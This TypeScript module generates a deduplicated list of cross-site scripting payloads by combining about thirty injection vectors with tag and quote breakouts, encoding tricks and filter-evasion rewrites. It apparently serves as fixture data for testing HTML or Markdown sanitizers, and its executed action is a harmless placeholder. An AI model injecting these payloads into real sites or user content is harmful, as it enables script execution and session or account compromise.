/** What each would do if it ran; short, for a field may have room for forty characters. */
const act = 'ran=1';

/** Ways in which HTML, SVG, CSS or an address has made browsers run something. */
const vectors: readonly string[] = [
  `<script>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg/onload=${act}//`,
  `<body onload=${act}>`,
  `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}>`,
  `<a href=javascript:${act}>x</a>`,
  `<iframe srcdoc="<script>parent.${act}</script>">`,
  `<iframe src=javascript:parent.${act}>`,
  `<object data=javascript:${act}>`,
  `<embed src=javascript:${act}>`,
  `<form action=javascript:${act}><button>x`,
  `<math href=javascript:${act}>x</math>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x>`,
  `<audio src=x onerror=${act}>`,
  `<input type=image src=x onerror=${act}>`,
  `<button formaction=javascript:${act}>x`,
  `<style onload=${act}></style>`,
  `<style>@import '/x?css';</style>`,
  `<link rel=stylesheet href=/x?css>`,
  `<meta http-equiv=refresh content=0;/x?gone>`,
  `<base href=//x.example/>`,
  `<marquee onstart=${act}>`,
  `<p style=animation:x onanimationstart=${act}>`,
  `<noscript><img src=x onerror=${act}></noscript>`,
  `[x](javascript:${act})`,
  `![x](x"onerror="${act})`,
  `:::callout{onclick=${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
];

/** What might stand around the place where it is put, and would be closed by this. */
const surroundings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `\\">${vector}`,
  (vector) => `*/${vector}/*`,
  (vector) => `&lt;b&gt;${vector}`,
  (vector) => `%3Cb%3E${vector}`,
  (vector) => vector.replaceAll('<', '\\u003c'),
  (vector) => vector.replaceAll('<', '&lt;'),
  (vector) => vector.replaceAll(/on([a-z]+)=/g, 'oN$1 ='),
  (vector) => vector.replaceAll('script', 'scr\tipt'),
  (vector) =>
    vector
      .replaceAll(/ (on[a-z]+)=/g, ' $1 = ')
      .replaceAll('>', ' >')
      .replaceAll('</', ' </'),
];

/** Every vector in every surrounding, each once. */
export const scriptPayloads: readonly string[] = [
  ...new Set(vectors.flatMap((vector) => surroundings.map((around) => around(vector)))),
];
